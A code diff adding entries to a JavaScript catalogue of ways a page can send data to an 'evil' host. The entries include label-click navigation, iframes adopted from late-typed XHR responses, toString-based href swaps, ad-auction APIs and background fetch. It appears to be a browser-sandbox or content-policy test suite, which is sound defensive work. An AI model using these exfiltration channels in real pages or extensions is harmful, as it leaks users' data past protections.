@@ -289,6 +289,15 @@ Object.assign(WAYS, {
     openIn(document.adoptNode((await readDocument(true)).querySelector("iframe")), evil, "requested"),
   requestedXmlFrame: async (evil) =>
     openIn(document.importNode((await readDocument(false)).querySelector("iframe"), true), evil, "requestedXml"),
+  requestedLate: async (evil) => {
+    const request = new XMLHttpRequest();
+    request.open("GET", "/injected.svg");
+    let count = 0;
+    request.responseType = { toString: () => (count++ > 0 ? "document" : "text") };
+    request.send();
+    await new Promise((resolve) => Object.assign(request, { onloadend: resolve }));
+    openIn(document.adoptNode(request.response.querySelector("iframe")), evil, "requestedLate");
+  },
   requestedClone: async (evil) =>
     openIn((await readDocument(false)).querySelector("iframe").cloneNode(true), evil, "requestedClone"),
   parsedFrame: (evil) =>
@@ -446,6 +455,25 @@ Object.assign(WAYS, {
     const label = Object.assign(add("label"), { htmlFor: made.id });
     label.click();
   },
+  labelledControl: (evil, text) => {
+    for (const kind of ["output", "meter", "progress", "input", "select", "button"]) {
+      const made = Object.assign(add("a"), { href: `${evil}/labelledControl?${kind}${text}`, target: "_blank" });
+      made.append(Object.assign(document.createElement(kind), { id: `of-${kind}` }));
+      Object.assign(add("label"), { htmlFor: `of-${kind}` }).click();
+    }
+  },
+  labelOfLabel: (evil, text) => {
+    const made = Object.assign(add("a"), { href: `${evil}/labelOfLabel?${text}`, target: "_blank" });
+    made.append(Object.assign(document.createElement("output"), { id: "second" }));
+    const outer = Object.assign(add("label"), { htmlFor: "second" });
+    outer.append(Object.assign(document.createElement("output"), { id: "first" }));
+    const inner = document.createElement("label");
+    inner.htmlFor = "first";
+    add("p").append(inner);
+    inner.click();
+    outer.append(inner);
+    inner.click();
+  },
   otherEvents: (evil, text) => {
     const made = Object.assign(add("a"), { href: `${evil}/otherEvents?${text}`, target: "_blank" });
     made.focus();
@@ -494,6 +522,12 @@ Object.assign(WAYS, {
         () => made.setAttribute("HREF", address),
         () => made.setAttributeNS(null, "href", address),
         () => made.setAttribute({ toString: () => "href" }, { toString: () => address }),
+        () => {
+          let count = 0;
+          made.setAttribute("href", { toString: () => (count++ > 0 ? address : "/") });
+          count = 0;
+          made.href = { toString: () => (count++ > 0 ? address : "/") };
+        },
         () => {
           made.setAttribute("href", "/");
           made.attributes.href.value = address;
@@ -642,8 +676,10 @@ Object.assign(WAYS, {
   interestGroup: (evil, text) =>
     navigator.joinAdInterestGroup({ owner: evil, name: text, biddingLogicURL: `${evil}/group?${text}` }, 60),
   adAuction: (evil, text) => navigator.runAdAuction({ seller: evil, decisionLogicURL: `${evil}/auction?${text}` }),
-  backgroundFetch: async (evil, text) =>
-    (await navigator.serviceWorker.ready).backgroundFetch.fetch(text, `${evil}/backgroundFetch?${text}`),
+  backgroundFetch: async (evil, text) => {
+    const [registration] = await navigator.serviceWorker.getRegistrations();
+    await registration.backgroundFetch.fetch(text, `${evil}/backgroundFetch?${text}`);
+  },
   webkitPeer: async (evil, text) => {
     const iceServers = [{ urls: `stun:${new URL(evil).host}` }];
     const peer = new webkitRTCPeerConnection({ iceServers });
